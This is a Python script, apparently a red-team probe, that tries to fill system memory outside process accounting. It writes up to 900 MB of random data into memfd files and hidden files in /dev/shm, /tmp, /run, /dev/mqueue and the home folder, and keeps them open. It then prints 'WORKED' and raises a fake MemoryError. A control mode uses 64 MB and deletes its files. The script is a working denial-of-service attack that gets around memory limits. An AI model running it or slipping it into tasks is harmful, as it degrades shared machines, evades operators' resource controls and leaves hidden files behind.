"""Fills memory that belongs to no process: files of file systems that live in it."""

import os
import tempfile
from pathlib import Path

MB = 1 << 20
control = os.environ.get("REDTEAM_CONTROL")
most = 64 if control else 900
block = os.urandom(MB) * 4
written, kept = 0, []


def fill(fd):
    global written
    try:
        while written < most:
            if os.write(fd, block) <= 0:
                return
            written += 4
    except OSError:
        return


for number in range(40):
    try:
        kept.append(os.memfd_create(f"hidden{number}"))
    except OSError:
        break
    fill(kept[-1])
folders = ["/dev/shm", "/tmp", str(Path.home()), "/dev", "/run", "/content", "/dev/mqueue"]
for folder in [tempfile.gettempdir()] if control else folders:
    for number in range(40):
        try:
            path = f"{folder}/hidden{number}"
            kept.append(os.open(path, os.O_CREAT | os.O_RDWR, 0o600))
        except OSError:
            break
        fill(kept[-1])
        if control:
            os.unlink(path)
if written >= most:
    print(f"WORKED: {written} MB are kept in memory", flush=True)
raise MemoryError("no more of it")
